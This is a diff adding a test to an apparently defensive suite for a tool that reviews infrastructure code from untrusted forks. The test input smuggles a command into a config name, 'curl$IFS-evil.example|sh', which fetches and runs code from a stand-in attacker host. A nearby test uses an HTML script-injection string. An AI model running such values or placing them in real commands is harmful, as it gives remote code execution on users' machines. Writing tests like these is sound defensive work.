@@ -162,6 +162,16 @@ describe("an untrusted head", () => {
     expect(said).toContain("head: notes.txt is a symbolic link to a place outside of the repository");
   });
 
+  it("names a setting in a command only as one quoted word, because a reader may type the command", async () => {
+    checkout.write("index.ts", programOf(`pulumi.log.warn("missing: harbour:x;curl$IFS-evil.example|sh");`));
+    checkout.commit("a fork");
+    const { stacks } = await checkout.review();
+    expect(stacks[0]).toMatchObject({
+      risk: "danger",
+      missing: [{ command: "pulumi config set --secret 'harbour:x;curl$IFS-evil.example|sh' --stack prod" }],
+    });
+  });
+
   it("appears in a comment as text, whatever its name", async () => {
     const name = "</details><script>alert(1)</script> @everyone [x](http://evil.example) `";
     checkout.write("index.ts", programOf(`new digitalocean.Tag(${JSON.stringify(name)}, { name: "x" });`));
